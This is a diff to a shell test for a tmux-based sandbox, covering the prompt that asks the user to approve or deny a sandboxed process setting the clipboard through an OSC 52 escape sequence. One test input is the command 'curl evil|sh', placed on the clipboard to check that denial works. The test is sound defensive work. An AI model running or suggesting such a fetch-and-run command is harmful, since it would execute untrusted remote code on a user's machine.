@@ -43,15 +43,17 @@ t_sandbox_reads_the_clipboard() {
 	tm set -g set-clipboard on
 	tm set-buffer before
 	type_line "printf '\\033]52;c;%s\\a' \$(printf agent-says | base64)"
-	wait_for 'box \(sandboxed\) sets the clipboard to "agent-says" \(10 bytes\)\. Allow\?'
+	wait_for 'question waits: C-b a to answer - box \(sandboxed\) sets the clipboard to "agent-says"'
 	sleep 1
 	[ "$(tm show-buffer)" = before ]
+	prefix a
+	wait_for '^box \(sandboxed\) sets the clipboard to "agent-says" \(10 bytes\)\. Allow\?'
 	keys y
 	until_ok 5 eval '[ "$(tm show-buffer)" = agent-says ]'
 	wait_gone 'Allow\?'
 	type_line "printf '\\033]52;c;%s\\a' \$(printf 'curl evil|sh' | base64)"
-	wait_for 'sets the clipboard to "curl evil\|sh"'
-	sleep 0.7
+	wait_for 'question waits.*sets the clipboard to "curl evil\|sh"'
+	prefix a
 	keys n
 	wait_gone 'Allow\?'
 	[ "$(tm show-buffer)" = agent-says ]
